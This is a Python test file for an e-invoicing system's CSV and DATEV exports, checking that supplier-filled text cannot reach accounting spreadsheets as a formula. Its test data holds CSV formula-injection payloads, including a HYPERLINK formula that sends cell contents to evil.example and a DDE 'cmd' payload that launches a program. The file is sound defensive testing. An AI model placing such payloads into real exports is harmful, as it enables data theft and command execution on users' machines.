"""Formula injection in the CSV exports (issue 14, "Why" 2): no cell of the DATEV Buchungsstapel
or of the neutral ``invoices.csv`` reaches accounting's spreadsheet as a formula.

The export runs for real (SQLite and PostgreSQL: invoice rows with hostile text in every field a
supplier or a person fills in, approved through the workflow, planned, written, published and
recorded by ``batch.run_export``); both files are then read back with Python's ``csv`` module,
the way a spreadsheet splits them, and every cell is checked. The cell rule itself (OWASP "CSV
Injection") is pinned character by character below.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from decimal import Decimal as D
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from einvoice.context import Context
from einvoice.export import DatevParams, batch, datev, neutral
from einvoice.export.csvcells import TRIGGERS, Cells, defused, formula_like
from einvoice.export.record import recorded
from einvoice.model import AllowanceCharge, Item, Line, Seller, Totals, VatBreakdown
from tests.test_export_db import add

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Rechnung")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
)

# ------------------------------------------------------------------ the cell rule


@pytest.mark.parametrize("value", [*HOSTILE, "=", "+", "-", "@", "\t", "\r", "\0x", "＝1", "＋1",
                                   "－1", "＠x", " =1", "  \t+1", "\u200b=1", "\u00a0@x",
                                   "\u2028-1", "\ufeff=1", "\n=1"])
def test_formula_like_values_get_a_leading_quote(value: str) -> None:
    assert formula_like(value)
    assert defused(value) == "'" + value


@pytest.mark.parametrize("value", ["", "a=1", "Muster GmbH", "1+1", "'=1", "RE-1", " a-1",
                                   "x@y.de", "(=1)", "#=1", "%1", "ä=1", "1"])
def test_other_values_stay_as_they_are(value: str) -> None:
    assert not formula_like(value)
    assert defused(value) == value


def test_the_triggers_are_owasps_and_nul_and_their_full_width_forms() -> None:
    assert frozenset("=+-@\t\r\0＝＋－＠") == TRIGGERS


def test_a_neutralised_text_cell_is_quoted_even_where_rfc_4180_needs_no_quotes() -> None:
    cells = Cells()
    assert cells.text("=1+1") == "\"'=1+1\""
    assert cells.text('=A1&"x"') == "\"'=A1&\"\"x\"\"\""
    assert cells.text("Muster") == "Muster"
    assert cells.text("a;b") == '"a;b"'
    assert Cells(quote_all_text=True).text("Muster") == '"Muster"'
    assert cells.text("=12345", limit=4) == "\"'=12\""  # the quote counts towards the limit


def test_typed_cells_stay_as_formatted_a_negative_number_too() -> None:
    cells = Cells()
    for value in ("-5.00", "-5,00", "119,00", "4999", "2024-01-30", "3001", "0", "ab" * 32):
        assert cells.typed(value) == value
    assert cells.typed("=1+1") == "\"'=1+1\""  # not a number: neutralised like text
    assert cells.typed("-1-1") == "\"'-1-1\""
    assert Cells(guard=False).typed("=1+1") == "=1+1"


@given(st.lists(st.text(alphabet=st.sampled_from(list('ab1 ;"\r\n\t=+-@\'x,ä\0')), max_size=6),
                min_size=2, max_size=5))
def test_cells_are_written_as_the_csv_module_writes_them_unless_a_formula(
        values: list[str]) -> None:
    """Without the guard a row is byte for byte what ``csv.writer`` made before (so old batches
    rewrite unchanged); with it, only cells that look like a formula differ."""
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerow(values)
    old = Cells(guard=False)
    assert old.row(old.text(v) for v in values) + "\r\n" == buf.getvalue()
    new = Cells()
    assert all(new.text(v) == old.text(v) for v in values if not formula_like(v))
    parsed = next(csv.reader([new.row(new.text(v) for v in values)], delimiter=";"))
    assert parsed == [defused(v) for v in values]


# ------------------------------------------------------------------ a real export run


def hostile(text: str) -> dict[str, Any]:
    """Every free-text field of an invoice saying ``text``, beside a line of -5 (a number, not
    a formula) and an allowance whose reason is ``text`` too (gross 119.00 - 5.95 - 0.01)."""
    return {
        "seller": Seller(name=text, vat_id=text), "buyer_reference": text,
        "purchase_order_reference": text, "totals": Totals(with_vat=D("113.04")),
        "vat_breakdown": [VatBreakdown(taxable_amount=D("94.99"), tax_amount=D("18.05"),
                                       category="S", rate=D("19"))],
        "lines": [Line(id=text, net_amount=D("100"), vat_category="S", vat_rate=D("19"),
                       unit_code=text, accounting_reference=text, note=text,
                       item=Item(name=text)),
                  Line(id="2", net_amount=D("-5"), vat_category="S", vat_rate=D("19"),
                       item=Item(name="Gutschrift"))],
        "allowances_charges": [AllowanceCharge(is_charge=False, amount=D("0.01"),
                                               vat_category="S", vat_rate=D("19"),
                                               reason=text)]}


@pytest.fixture
def exported(ctx: Context) -> tuple[Context, Path, list[int]]:
    """Every hostile string in every text field (and as the assigned cost centre, which holds
    32 characters), approved
    through the workflow and exported booking per line."""
    ctx.settings.four_eyes_threshold = D("1e12")
    ctx.settings.datev_default_account = "4999"
    ctx.settings.datev_default_creditor = "79999"
    ctx.settings.datev_per_line = True
    ids = [add(ctx, text, cost_centre=text[:32], pay_by=date(2024, 2, 29), **hostile(text))
           for text in HOSTILE]
    result = batch.run_export(ctx, "bob")
    assert result is not None and result.folder is not None
    assert sorted(result.invoice_ids) == ids
    return ctx, result.folder, ids


def parsed(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=";"))


def formula_cells(rows: list[list[str]], skip: int = 0) -> list[str]:
    """Cells a spreadsheet could take for a formula (a negative number is a number)."""
    return [c for row in rows[skip:] for c in row
            if formula_like(c) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        D(cell.replace(",", "."))
    except ArithmeticError:
        return False
    return True


def test_no_cell_of_either_file_starts_a_formula(exported: tuple[Context, Path, list[int]]
                                                  ) -> None:
    _, folder, _ = exported
    [datev_file] = folder.glob("EXTF_*.csv")
    booking = parsed(datev_file.read_bytes(), "cp1252")
    table = parsed((folder / "invoices.csv").read_bytes(), "utf-8")
    assert formula_cells(booking) == [] and formula_cells(table) == []

    # still readable: the value behind the quote, as the supplier wrote it
    header, *rows = table
    by_name = [dict(zip(header, r, strict=True)) for r in rows]
    for text, row in zip(HOSTILE, by_name[::2], strict=True):
        for name in ("number", "seller_name", "seller_vat_id", "buyer_reference",
                     "order_reference", "line_id", "item_name", "unit_code",
                     "line_accounting_reference"):
            assert row[name] == "'" + text, (name, row[name])
        assert row["cost_centre"] == row["line_cost_centre"] == "'" + text[:32]
    negative = by_name[1]
    assert (negative["line_net_amount"], negative["item_name"]) == ("-5", "Gutschrift")


def test_datev_text_is_neutralised_and_typed_columns_are_unchanged(
        exported: tuple[Context, Path, list[int]]) -> None:
    _, folder, ids = exported
    [datev_file] = folder.glob("EXTF_*.csv")
    rows = [dict(zip(datev.COLUMNS, r, strict=True))
            for r in parsed(datev_file.read_bytes(), "cp1252")[2:]]
    first = [r for r in rows if r["Beleginfo - Inhalt 2"] == str(ids[0])]
    text = " ".join(HOSTILE[0].split())
    assert [r["Buchungstext"] for r in first] == ["'" + text[:59], "Gutschrift", "'" + text[:59]]
    assert first[0]["Beleginfo - Inhalt 1"] == "'" + text  # the number
    assert first[0]["Beleginfo - Inhalt 4"] == "'" + text  # the seller
    assert first[0]["KOST1 - Kostenstelle"] == "'" + text[:32]
    for r in rows:  # formatted by us: never touched
        assert r["Konto"] == "79999" and r["Gegenkonto (ohne BU-Schlüssel)"] == "4999"
        assert r["Belegdatum"] == "3001" and r["Fälligkeit"] == "29022024"
        assert r["Soll/Haben-Kennzeichen"] in ("S", "H")
        assert r["WKZ Umsatz"] == "EUR" and r["Beleglink"].startswith("sha256:")
    assert sorted({r["Umsatz (ohne Soll/Haben-Kz)"] for r in rows}) == ["0,01", "119,00", "5,95"]
    assert [r["Soll/Haben-Kennzeichen"] for r in first] == ["H", "S", "S"]  # -5 and allowance
    belegfeld = {r["Belegfeld 1"] for r in rows}
    assert belegfeld == {"HYPERLINK-http-//evil-example/-d-&A1", "1+1", "2+3", "SUM-A1",
                         "1", "cmd-/C-calc-A0"}  # no ' allowed there: leading + and - go


def test_before_the_guard_the_same_batch_had_formula_cells_and_it_rewrites_unchanged(
        exported: tuple[Context, Path, list[int]]) -> None:
    """The cells the guard catches, counted as the files were written before it (what the
    probe found) and after; a batch keeps its guard for ``--rewrite``."""
    ctx, folder, _ = exported
    rec = recorded(ctx, 1)
    assert rec.batch.params.formula_guard
    old = replace(rec.batch.params, formula_guard=False)
    [old_datev] = datev.write(rec.batch.items, old, rec.batch.info).values()
    old_csv = neutral.write_csv(rec.batch.items, rec.batch.info, guard=False)
    before = (len(formula_cells(parsed(old_datev, "cp1252"))),
              len(formula_cells(parsed(old_csv, "utf-8"))))
    [new_datev] = datev.write(rec.batch.items, rec.batch.params, rec.batch.info).values()
    new_csv = neutral.write_csv(rec.batch.items, rec.batch.info)
    after = (len(formula_cells(parsed(new_datev, "cp1252"))),
             len(formula_cells(parsed(new_csv, "utf-8"))))
    # DATEV: per invoice 3 bookings × (number, seller, VAT id, KOST1) + 2 Buchungstexte, and
    # Belegfeld 1 of "+1+1" 3 times; CSV: per invoice 2 lines × 6 + 5 line fields + 1
    assert before == (101, 126) and after == (0, 0), (before, after)
    assert new_datev == next(folder.glob("EXTF_*.csv")).read_bytes()
    again = batch.rewrite(ctx, 1)
    assert again.manifest_sha256 == rec.manifest_sha256


def test_a_batch_recorded_before_the_guard_keeps_its_bytes() -> None:
    params = DatevParams(adviser=1, client=1, chart="03", account_length=4,
                         fiscal_year_start="0101")
    assert params.formula_guard and params.to_json()["formula_guard"] is True
    assert DatevParams.from_json(params.to_json()) == params
    old = {k: v for k, v in params.to_json().items() if k != "formula_guard"}
    assert DatevParams.from_json(old).formula_guard is False
    assert DatevParams.from_json(old).to_json() == old
    assert datev.belegfeld("+1+1", guard=False) == "+1+1"
    assert datev.belegfeld("+-+1+1") == "1+1"
    assert datev.belegfeld("--+A") == "A"

